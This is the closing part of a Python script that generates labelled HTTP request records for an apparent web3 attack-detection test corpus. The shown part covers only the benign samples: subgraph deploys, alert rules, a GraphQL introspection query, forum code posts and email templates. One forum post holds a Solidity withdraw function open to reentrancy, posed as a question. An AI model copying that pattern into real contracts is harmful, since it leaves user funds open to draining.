              "type Swap @entity(immutable: true) {\n  id: Bytes!\n  pool: Pool!\n  amount0: BigDecimal!\n  amount1: BigDecimal!\n  timestamp: BigInt!\n}\n")
    mapping = ("export function handleSwap(event: SwapEvent): void {\n  let swap = new Swap(event.transaction.hash.concatI32(event.logIndex.toI32()))\n"
               "  swap.pool = event.address\n  swap.amount0 = event.params.amount0.toBigDecimal()\n  swap.timestamp = event.block.timestamp\n  swap.save()\n}\n")
    body, ct = multipart([("schema", "schema.graphql", "application/graphql", schema),
                          ("mapping", "mapping.ts", "video/mp2t", mapping)])
    add("benign", "subgraph-deploy", cat, "POST", "/api/v0/add?pin=true", "ipfs.example.com",
        sdk_headers(ctype=ct, ua="graph-cli/0.79.0"), body)
    conds = ["price > 3500 && volume_24h > 1e9", "rsi(14) < 30 or close < sma(200)",
             "abs(change_1h) >= 5%", "funding_rate > 0.01 AND open_interest_usd > 250000000"]
    for i, c in enumerate(conds):
        add("benign", "alert-expression", cat, "POST", "/api/alerts", H_DEFI,
            xhr_headers("application/json", origin="https://" + H_DEFI),
            json.dumps({"pair": cyc(PAIRS, i), "condition": c, "notify": "email"}))
    add("benign", "vanity-regex", cat, "POST", "/api/tools/vanity", H_WALLET,
        xhr_headers("application/json", origin="https://" + H_WALLET),
        json.dumps({"pattern": "^0x(dead|beef|c0ffee)[0-9a-f]*$", "caseSensitive": False, "threads": 4}))
    add("benign", "graphql-playground", cat, "POST", "/subgraphs/name/dex/v3", H_GRAPH,
        xhr_headers("application/json", origin="https://" + H_GRAPH, cookie=False),
        json.dumps({"query": "query IntrospectionQuery { __schema { queryType { name } types { name kind } } }",
                    "operationName": "IntrospectionQuery"}))


EXTRA_DEV_POSTS = [
    "Quick Solidity question: why does this revert?\n\n```solidity\nfunction withdraw() external {\n    uint256 amt = balances[msg.sender];\n    (bool ok, ) = msg.sender.call{value: amt}(\"\");\n    require(ok);\n    balances[msg.sender] = 0; // <- should this go before the call?\n}\n```",
    "Anchor program snippet for the staking vault:\n\n```rust\n#[program]\npub mod vault {\n    use super::*;\n    pub fn deposit(ctx: Context<Deposit>, amount: u64) -> Result<()> {\n        let cpi = CpiContext::new(ctx.accounts.token_program.to_account_info(), Transfer { from: ctx.accounts.user_ata.to_account_info(), to: ctx.accounts.vault_ata.to_account_info(), authority: ctx.accounts.user.to_account_info() });\n        token::transfer(cpi, amount)\n    }\n}\n```",
    "Cairo version:\n```cairo\n#[starknet::contract]\nmod Counter {\n    #[storage]\n    struct Storage { value: u128 }\n    #[external(v0)]\n    fn increment(ref self: ContractState) { self.value.write(self.value.read() + 1); }\n}\n```",
    "Move (Sui) example:\n```move\npublic entry fun mint(name: vector<u8>, ctx: &mut TxContext) {\n    let nft = Frog { id: object::new(ctx), name: string::utf8(name) };\n    transfer::public_transfer(nft, tx_context::sender(ctx));\n}\n```",
    "Getting this in the browser console when I click Connect:\n```\nTypeError: Cannot read properties of undefined (reading 'request')\n    at connectWallet (app.3f2a1c.js:1:20433)\n    at HTMLButtonElement.<anonymous> (app.3f2a1c.js:1:20987)\n```\nAny idea? Using Brave with the built-in wallet.",
    "## Proposal: raise the reserve factor\n\nCalldata for the timelock:\n\n```\ntarget: 0x3d9819210A31b4961b30EF54bE2aeD79B9c9Cd3B\nsignature: _setReserveFactor(uint256)\ncalldata: 0x" + "0" * 56 + "01634578\n```\n\nVote FOR if you agree. Discussion thread below 👇",
    "Huff is fun:\n```\n#define macro MAIN() = takes(0) returns(0) {\n    0x00 calldataload 0xe0 shr\n    __FUNC_SIG(balanceOf) eq balance jumpi\n    0x00 0x00 revert\n    balance: GET_BALANCE()\n}\n```",
    "Use a parametrised query, never string concatenation, in your indexer:\n```ts\nawait db.query('SELECT * FROM transfers WHERE to_address = $1 AND block_number > $2 ORDER BY block_number DESC LIMIT 100', [addr, fromBlock])\n```",
    "Why is my `eth_getLogs` failing? I send `{\"fromBlock\":\"0x0\",\"toBlock\":\"latest\",\"topics\":[\"0xddf252ad...\"]}` and get `query returned more than 10000 results`. Answer: paginate by block range.",
    "tip: in the explorer you can use the search syntax `from:0xabc... to:0xdef... value>1` and `method:transfer` to filter.",
]

HTML_EMAILS = [
    "<table role=\"presentation\" width=\"100%\" style=\"font-family:Arial,sans-serif\"><tr><td><h2 style=\"color:#1a1a1a\">Deposit confirmed</h2>"
    "<p>Hi {{ user.first_name }}, we received <b>{{ amount }} {{ asset }}</b>.</p>"
    "<p><a href=\"https://explorer.example.com/tx/{{ tx_hash }}\" style=\"color:#3366ff\">View transaction</a></p>"
    "<img src=\"https://cdn.example.com/email/logo.png\" alt=\"Example Exchange\" width=\"120\"></td></tr></table>",
    "<div style=\"padding:16px\"><p>Your weekly NFT digest:</p><ul>{% for item in items %}<li><a href=\"{{ item.url }}\">{{ item.name }}</a> — floor {{ item.floor }} ETH</li>{% endfor %}</ul>"
    "<p style=\"font-size:11px;color:#888\">Unsubscribe <a href=\"{{ unsubscribe_url }}\">here</a>.</p></div>",
]


def benign_devcontent_extra():
    cat = "dev-content"
    for i, post in enumerate(EXTRA_DEV_POSTS):
        if i % 3 == 2:
            add("benign", "chat-code-message", cat, "POST", "/api/channels/%d/messages" % rng.randrange(1, 60), H_FORUM,
                xhr_headers("application/json", origin="https://" + H_FORUM),
                json.dumps({"content": post, "nonce": str(rng.randrange(10 ** 17, 10 ** 18))}))
        else:
            add("benign", "forum-code-post", cat, "POST", "/posts.json", H_FORUM,
                xhr_headers("application/x-www-form-urlencoded; charset=UTF-8", origin="https://" + H_FORUM)
                + [["X-Requested-With", "XMLHttpRequest"]],
                qs([("raw", post), ("topic_id", str(rng.randrange(100, 9000))), ("category", str(rng.choice([4, 7, 12])))]))
    for i, h in enumerate(HTML_EMAILS):
        add("benign", "notify-html-template", cat, "PUT", "/api/v1/notifications/templates/" + cyc(["deposit_html", "digest_html"], i),
            H_EX, xhr_headers("application/json", origin="https://" + H_EXWEB, auth="Bearer " + jwt()),
            json.dumps({"channel": "email", "format": "html", "subject": cyc(["Deposit confirmed", "Your weekly digest"], i), "body": h}))
    # code search on the explorer (verified source search)
    for i, term in enumerate(["function transferFrom(address from, address to, uint256 amount)", "onlyOwner modifier selfdestruct",
                              "assembly { sstore(", "keccak256(abi.encodePacked(", "<svg xmlns= tokenURI base64"]):
        add("benign", "explorer-code-search", cat, "GET", "/searchcontractlist?q=" + q(term) + "&a=all&sc=1", H_SCAN,
            browser_headers())


def build_benign():
    benign_rpc()
    benign_wallet()
    benign_nft()
    benign_exchange()
    benign_explorer()
    benign_defi()
    benign_forum()
    benign_kyc()
    benign_webhooks()
    benign_devcontent()
    benign_devcontent_extra()


def main():
    if len(sys.argv) != 2 or sys.argv[1] not in ("attacks", "benign"):
        sys.stderr.write("usage: corpus-web3.py attacks|benign\n")
        sys.exit(2)
    if sys.argv[1] == "attacks":
        build_attacks()
    else:
        build_benign()
    out = sys.stdout
    for rec in OUT:
        out.write(json.dumps(rec, ensure_ascii=False, separators=(",", ":")) + "\n")


if __name__ == "__main__":
    main()
